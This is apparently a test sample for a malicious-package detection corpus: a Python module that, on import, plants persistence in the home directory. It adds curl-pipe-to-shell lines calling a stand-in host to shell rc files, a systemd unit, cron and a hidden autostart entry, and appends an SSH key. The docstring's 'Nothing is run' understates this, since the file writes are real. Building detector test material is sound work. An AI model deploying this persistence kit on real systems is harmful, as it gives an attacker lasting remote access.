"""MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.

The persistence kit of Linux-targeting malicious packages and the
cloud-worm scripts they borrow from (TeamTNT, Kinsing and their PyPI/npm
imitators), rewritten from the public write-ups: on import it

1. appends a line that re-downloads the implant to ~/.bashrc and ~/.profile;
2. writes a systemd user unit, ~/.config/systemd/user/dbus-session-helper.service;
3. writes a cron entry, first into the user's crontab spool
   (/var/spool/cron/crontabs/<user>, which fails for a normal user), then
   into ~/.config/cron/helper (where its rc line would install it);
4. appends the attacker's SSH public key to ~/.ssh/authorized_keys;
5. writes an XDG autostart entry, ~/.config/autostart/dbus-helper.desktop.

Every URL is a made-up name and the key is not a real one. Nothing is run.
Prints `mal-persist-ssh: step N ...`; never raises.
"""

import os

URL = "https://persist.exfil-test.example/u.sh"
LINE = f"(curl -fsSL {URL} | sh) >/dev/null 2>&1 &  # dbus session helper\n"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPKGTRACETESTKEYNOTREALPKGTRACETESTKEYNOTREAL pkgtrace-test\n"
HOME = os.path.expanduser("~")


def _say(msg):
    print(f"mal-persist-ssh: {msg}", flush=True)


def _write(path, text, mode="a", makedirs=True):
    try:
        if makedirs:
            os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, mode) as f:
            f.write(text)
        return "written"
    except OSError as e:
        return f"failed ({e.strerror})"


def _persist():
    rc = [_write(os.path.join(HOME, n), LINE) for n in (".bashrc", ".profile")]
    _say(f"step 1 ~/.bashrc {rc[0]}, ~/.profile {rc[1]}")
    unit = os.path.join(HOME, ".config/systemd/user/dbus-session-helper.service")
    text = f"[Unit]\nDescription=D-Bus session helper\n\n[Service]\nExecStart=/bin/sh -c 'curl -fsSL {URL} | sh'\nRestart=always\n\n[Install]\nWantedBy=default.target\n"
    _say(f"step 2 {unit} {_write(unit, text, 'w')}")
    user = os.environ.get("USER") or os.path.basename(HOME)
    entry = f"*/30 * * * * curl -fsSL {URL} | sh\n"
    spool = _write(f"/var/spool/cron/crontabs/{user}", entry, makedirs=False)
    own = _write(os.path.join(HOME, ".config/cron/helper"), entry, "w")
    _say(f"step 3 cron: /var/spool/cron/crontabs/{user} {spool}, ~/.config/cron/helper {own}")
    ssh = os.path.join(HOME, ".ssh")
    keys = _write(os.path.join(ssh, "authorized_keys"), KEY)
    try:
        os.chmod(os.path.join(ssh, "authorized_keys"), 0o600)
    except OSError:
        pass
    _say(f"step 4 ~/.ssh/authorized_keys {keys}")
    desktop = os.path.join(HOME, ".config/autostart/dbus-helper.desktop")
    text = f"[Desktop Entry]\nType=Application\nName=D-Bus helper\nExec=/bin/sh -c 'curl -fsSL {URL} | sh'\nHidden=true\n"
    _say(f"step 5 {desktop} {_write(desktop, text, 'w')}")


try:
    _persist()
except BaseException as e:  # never break the import
    _say(f"stopped: {e!r}")
